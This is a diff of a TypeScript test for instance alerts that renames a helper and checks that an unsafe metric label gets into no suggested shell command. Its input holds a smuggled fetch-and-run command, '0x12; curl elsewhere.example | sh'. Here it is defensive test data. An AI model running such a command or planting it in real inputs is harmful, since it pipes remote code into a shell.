@@ -119,10 +119,10 @@ describe("InstanceAlerts", () => {
   });
 
   it("error: a label that a shell would not take for one word gets into no command", () => {
-    const told = (claim: string) =>
+    const alertsOf = (claim: string) =>
       watch(0, () => [{ name: "assay_prover_answer_seconds", labels: { claim, kind: "reveal" }, value: 9 }]);
-    expect(told("0x12")).toMatchObject([{ claim: "0x12", command: "assay claim show 0x12" }]);
-    const [alert, ...more] = told("0x12; curl elsewhere.example | sh");
+    expect(alertsOf("0x12")).toMatchObject([{ claim: "0x12", command: "assay claim show 0x12" }]);
+    const [alert, ...more] = alertsOf("0x12; curl elsewhere.example | sh");
     expect(more).toEqual([]);
     expect(alert).toMatchObject({ rule: "AssayAnswerDue" });
     expect([alert?.command, alert?.claim]).toEqual([undefined, undefined]);
